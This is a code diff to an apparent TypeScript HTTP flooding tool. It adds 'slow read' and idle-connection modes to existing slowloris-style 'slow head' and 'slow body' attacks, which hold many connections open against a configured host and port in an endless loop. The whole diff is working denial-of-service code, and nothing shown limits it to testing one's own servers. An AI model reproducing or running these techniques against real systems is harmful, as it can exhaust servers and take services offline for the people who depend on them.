@@ -19,8 +19,11 @@ export type Flood = {
   /** A request's head, without the empty line, and its body. */
   readonly head: string;
   readonly body: string;
-  /** Requests in all, each on a connection of its own; or which part arrives a byte a second. */
-  readonly sends: number | "a slow head" | "a slow body";
+  /**
+   * Requests in all, each on a connection of its own; or which part arrives a byte a second; or whole requests whose
+   * answers are never read.
+   */
+  readonly sends: number | "a slow head" | "a slow body" | "a slow read" | "nothing";
 };
 
 const { host, port, from, tls, connections, head, body, sends }: Flood = JSON.parse(
@@ -52,13 +55,21 @@ const forged = (bytes: string): Promise<string> =>
 async function slow(): Promise<void> {
   const [at, rest] = sends === "a slow head" ? [`${head}\r\nx-slow: `, "x"] : [`${head}\r\n\r\n`, " "];
   for (;;) {
-    let timer: NodeJS.Timeout | undefined;
-    const socket = open((to) => {
-      to.write(at);
-      timer = setInterval(() => to.write(rest), 1_000);
+    await new Promise<void>((resolve) => {
+      const begin = (socket: Socket) => {
+        if (sends === "nothing") return;
+        if (sends === "a slow read") {
+          socket.pause().write(`${head}\r\n\r\n${body}`);
+          return void setTimeout(() => socket.destroy(), 9_000);
+        }
+        socket.write(at);
+        const timer = setInterval(() => socket.write(rest), 1_000);
+        socket.on("close", () => clearInterval(timer));
+      };
+      open(begin)
+        .resume()
+        .on("close", () => resolve());
     });
-    await new Promise((resolve) => socket.resume().on("close", resolve));
-    clearInterval(timer);
     await sleep(100);
   }
 }
